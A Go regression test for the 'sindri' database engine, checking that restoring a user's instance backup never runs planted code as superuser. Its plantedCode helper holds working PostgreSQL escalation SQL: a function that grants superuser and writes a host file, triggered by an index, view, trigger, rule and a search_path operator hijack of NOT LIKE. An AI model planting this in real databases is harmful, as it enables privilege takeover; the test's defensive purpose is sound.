package engine_test

import (
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sindri-db/sindri/pkg/engine"
	"github.com/sindri-db/sindri/pkg/postgres/pgtest"
	"github.com/sindri-db/sindri/pkg/store"
)

// plantedCode is what an instance's owner (role draupnir, no superuser)
// can leave in their instance for whoever later runs SQL on its data as
// superuser: a volatile function that logs who runs it and, run as a
// superuser, makes draupnir one and writes a file on the host; and ways to
// have it called: an expression index (ANALYZE, VACUUM FULL, REINDEX), a
// materialized view (REFRESH), a trigger and a rule (a script's INSERT or
// UPDATE), and an operator in public that a superuser's unqualified NOT
// LIKE on names picks over the built-in one (sindri's grants at finalise
// have one).
func plantedCode(marker string) string {
	return fmt.Sprintf(`
create table planted_log (at timestamptz default clock_timestamp(), who text, super bool, what text);
create function public.evil(what text) returns bool language plpgsql volatile as $$
begin
	insert into public.planted_log (who, super, what)
		values (current_user, (select rolsuper from pg_catalog.pg_roles where rolname = current_user), what);
	begin
		alter role draupnir superuser;
	exception when others then null;
	end;
	begin
		copy (select 'planted code ran as superuser') to '%s';
	exception when others then null;
	end;
	return true;
end $$;
create function public.evil_immutable(x text) returns text language plpgsql immutable as $$
begin
	perform public.evil('index expression');
	return upper(x);
end $$;
create table mine (id int, x text);
insert into mine select i, 'row' || i from generate_series(1, 50) i;
create index mine_evil on mine (public.evil_immutable(x));
create materialized view mine_mv as select public.evil('materialized view') as ran;
create function public.evil_trigger() returns trigger language plpgsql as $$
begin
	perform public.evil('trigger');
	return new;
end $$;
create trigger mine_evil before insert or update on mine for each row execute function public.evil_trigger();
create table ruled (x int);
create rule ruled_evil as on insert to ruled do also select public.evil('rule');
create function public.evil_not_like(a name, b name) returns bool language plpgsql as $$
begin
	perform public.evil('operator');
	return not (a::text like b::text);
end $$;
create operator public.!~~ (leftarg = name, rightarg = name, function = public.evil_not_like);
`, marker)
}

// TestRestoreOfAnInstanceBackupRunsNoPlantedCode has an instance's owner
// plant code, back the instance up, and the upload user restore it: with
// an anonymisation script the restore is refused (and so it is for a
// backup of the image restored from it); without one it finalises, and
// neither that nor an instance of it runs the code as superuser. The
// upload user may still upload that backup's archive as a tarball with a
// script: the scrub then runs the planted index expression and view query,
// as Postgres runs them, as their owner, never as superuser.
func TestRestoreOfAnInstanceBackupRunsNoPlantedCode(t *testing.T) {
	w := newWorld(t, 6)
	e := engine.New(w.options())
	tok := make([]byte, 6)
	rand.Read(tok)
	marker := "/tmp/sindri-planted-" + hex.EncodeToString(tok)
	t.Cleanup(func() { os.Remove(marker) })

	base, err := e.FinaliseImage(ctx, newImage(t, e, "", sourceTarball(t)).ID)
	if err != nil {
		t.Fatal(err)
	}
	inst, err := e.CreateInstance(ctx, engine.InstanceRequest{ImageID: base.ID, Owner: "mallory@example.com"})
	if err != nil {
		t.Fatal(err)
	}
	mallory := certConn(t, inst)
	pgtest.Exec(t, mallory, plantedCode(marker))
	if got := mustSQL(t, mallory, "select format('%s %s', string_agg(distinct what, ','), bool_or(super)::text) from planted_log"); got != "index expression,materialized view false" {
		t.Fatalf("planting: the code ran for %s; want for the index and the view, never as superuser", got)
	}
	b, err := e.CreateBackup(ctx, engine.BackupRequest{InstanceID: inst.ID, Owner: "mallory@example.com"})
	if err != nil {
		t.Fatal(err)
	}
	if b = waitBackup(t, e, b.ID); b.Status != store.BackupDone || !b.UserWritten {
		t.Fatalf("backup of the instance: %+v; want done and user-written", b)
	}
	planted := time.Now()

	// The planted operator works: a superuser's NOT LIKE on a name with
	// the default search_path runs the code as superuser (in mallory's
	// instance, after its backup was taken).
	if got := mustSQL(t, w.superuserConn(inst), "select ('pg_toast'::name not like 'pg_temp_%')::text"); got != "true" {
		t.Fatalf("NOT LIKE: %s", got)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("the planted operator, run by a superuser, did not write %s (%v): the test's attack does not work", marker, err)
	}
	os.Remove(marker)

	// With a script: refused, saying why.
	_, err = e.CreateImage(ctx, engine.ImageRequest{BackedUpAt: time.Now(), BackupID: b.ID, AnonymisationScript: "update mine set x = 'redacted';"})
	if !errors.Is(err, engine.ErrInvalid) || !strings.Contains(err.Error(), fmt.Sprintf("instance %d", inst.ID)) || !strings.Contains(err.Error(), "without anonymisation_script") {
		t.Fatalf("restore of an instance's backup with a script: %v; want ErrInvalid naming the instance and what to do", err)
	}

	// Without: ready, not anonymised; then an instance of it.
	img, clone := restore(t, e, b.ID)
	if img.Anonymised || !img.UserWritten {
		t.Fatalf("the restored image: %+v; want not anonymised, user-written", img)
	}
	// The restore's link to the archive went with the upload; the
	// backup's archive stays whole.
	if left := uploadDirEntries(t, w, img.ID); len(left) != 0 {
		t.Errorf("the restored image's upload directory holds %v; want it empty", left)
	}
	if sum, _ := fileSHA256(t, filepath.Join(w.root, "backups", engine.BackupFile(b.ID))); sum != b.SHA256 {
		t.Errorf("the backup's archive changed with the restore: sha256 %s, want %s", sum, b.SHA256)
	}
	su := w.superuserConn(clone)
	if got := mustSQL(t, su, fmt.Sprintf("select format('%%s', count(*)) from planted_log where at > '%s'", planted.UTC().Format(time.RFC3339Nano))); got != "0" {
		t.Errorf("the planted code ran %s times during the restore and the start of its instance", got)
	}

	// A backup of that image is user-written too, and refuses a script.
	ib, err := e.CreateBackup(ctx, engine.BackupRequest{ImageID: img.ID})
	if err != nil {
		t.Fatal(err)
	}
	if ib = waitBackup(t, e, ib.ID); ib.Status != store.BackupDone || !ib.UserWritten {
		t.Fatalf("backup of the restored image: %+v; want done and user-written", ib)
	}
	_, err = e.CreateImage(ctx, engine.ImageRequest{BackedUpAt: time.Now(), BackupID: ib.ID, AnonymisationScript: "select 1;"})
	if !errors.Is(err, engine.ErrInvalid) || !strings.Contains(err.Error(), "restored from an instance's backup") {
		t.Fatalf("restore of a backup of a restored instance's image with a script: %v; want ErrInvalid", err)
	}

	// The archive uploaded as a tarball, with a script that leaves the
	// planted objects alone: the scrub refreshes the view and rebuilds
	// the index, which runs the planted code, as its owner.
	archive, err := os.ReadFile(filepath.Join(w.root, "backups", engine.BackupFile(b.ID)))
	if err != nil {
		t.Fatal(err)
	}
	uploaded := newImage(t, e, "select 1;", archive)
	if uploaded, err = e.FinaliseImage(ctx, uploaded.ID); err != nil || !uploaded.Anonymised {
		t.Fatalf("the backup's archive uploaded with a script: %+v, %v", uploaded, err)
	}
	scrubbed, err := e.CreateInstance(ctx, engine.InstanceRequest{ImageID: uploaded.ID, Owner: "upload"})
	if err != nil {
		t.Fatal(err)
	}
	su = w.superuserConn(scrubbed)
	ran := mustSQL(t, su, fmt.Sprintf(`select coalesce(string_agg(distinct format('%%s as %%s (superuser: %%s)', what, who, super::text), ', '), '')
		from planted_log where at > '%s'`, planted.UTC().Format(time.RFC3339Nano)))
	if !strings.Contains(ran, "materialized view as draupnir (superuser: false)") || !strings.Contains(ran, "index expression as draupnir (superuser: false)") {
		t.Errorf("during the scrub the planted code ran: %q; want the view's and the index's, as draupnir", ran)
	}
	if strings.Contains(ran, "superuser: true") || strings.Contains(ran, "as postgres") {
		t.Errorf("the planted code ran as superuser: %s", ran)
	}

	for _, c := range []store.Instance{clone, scrubbed} {
		if got := mustSQL(t, w.superuserConn(c), "select rolsuper::text from pg_roles where rolname = 'draupnir'"); got != "false" {
			t.Errorf("instance %d: draupnir is a superuser: the planted code ran as one", c.ID)
		}
	}
	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the planted code wrote %s: %v", marker, err)
	}
}
